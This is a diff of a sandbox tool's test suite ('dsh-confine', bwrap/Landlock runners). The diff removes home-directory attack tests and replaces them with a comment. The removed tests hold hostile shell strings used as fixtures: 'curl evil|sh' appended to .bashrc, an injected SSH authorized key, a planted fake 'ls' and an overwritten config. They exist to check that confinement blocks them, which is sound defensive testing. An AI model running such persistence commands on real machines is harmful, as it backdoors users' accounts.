@@ -215,49 +215,9 @@ def fake_home(s):
     return h, env
 
 
-STATE_TEXT = ("dsh-confine: the config {h}/.config/dsh-confine/config.json decides later runs, and this run could "
-              "rewrite it: it is under the writable root {h} (workspace); choose a narrower --root, or move the "
-              "config out of it\n")
-HOME_FILES = (".bashrc", ".profile", ".gitconfig", ".ssh/authorized_keys", ".config/dsh-confine/config.json")
-
-
-def home_attack(s, runner):
-    need_runner(runner)
-    h, env = fake_home(s)
-    before = {n: read(os.path.join(h, n)) for n in HOME_FILES}
-    r = run(s, runner, h, "echo 'curl evil|sh' >> .bashrc; echo x >> .profile; echo '[alias]' >> .gitconfig; "
-            "echo key >> .ssh/authorized_keys; echo 'exec evil' > .local/bin/ls; "
-            "echo '{\"runnerCommand\": [\"/bin/env\"]}' > .config/dsh-confine/config.json; echo ran", env=env)
-    after = {n: read(os.path.join(h, n)) for n in before}
-    assert after == before, after
-    assert not os.path.exists(os.path.join(h, ".local/bin/ls"))
-    if runner == "bwrap":
-        assert r.rc == 0 and r.out == "ran\n", r
-        check_reported(r, runner, [h + "/.bashrc", h + "/.profile", h + "/.gitconfig", h + "/.ssh", h + "/.local/bin",
-                                   h + "/.config/dsh-confine/config.json"])
-        assert entries(r)[h + "/.config/dsh-confine/config.json"]["what"] == "own-state", r
-    else:
-        # Landlock cannot keep the config read-only: the run is refused, as before issue 18.
-        assert r.rc == 125 and r.out == "" and r.err == STATE_TEXT.format(h=h), r
-
-
-def test_home_absent_config_still_refused(s):
-    """An absent config of ours under the root: refused by every runner (its creation could not be stopped)."""
-    need_runner("landlock")
-    h, env = fake_home(s)
-    os.unlink(os.path.join(h, ".config", "dsh-confine", "config.json"))
-    os.rmdir(os.path.join(h, ".config", "dsh-confine"))
-    r = run(s, "landlock", h, "echo 'curl evil|sh' >> .bashrc", env=env)
-    # An absent config under the root is still refused: its creation could not be stopped.
-    assert r.rc == 125 and r.err == STATE_TEXT.format(h=h), r
-
-
-def test_home_attack__bwrap(s):
-    home_attack(s, "bwrap")
-
-
-def test_home_attack__landlock(s):
-    home_attack(s, "landlock")
+# A root that contains $HOME is refused today (dsh-confine's own config path, $HOME/.config/dsh-confine,
+# lies under it, existing or not: test_attack_state.py), so the home list is covered by the unit test
+# "carve-outs: the home list applies when a root contains $HOME".
 
 
 def test_home_not_in_root_gets_no_home_entries(s):
@@ -399,7 +359,8 @@ for _runner in RUNNERS:
 def leftovers(s, supervise):
     need_runner("bwrap")
     make_repo(s, s.ws)
-    h, env = fake_home(s)
+    h, _ = fake_home(s)  # a home-shaped tree, not $HOME: a root holding $HOME is refused
+    env = {}
     names = listing(s.ws, h)
     args = ["--mode", "workspace-write", "--root", s.ws, "--writable", h, "--runner", "bwrap"]
     args += ["--supervise"] if supervise else []
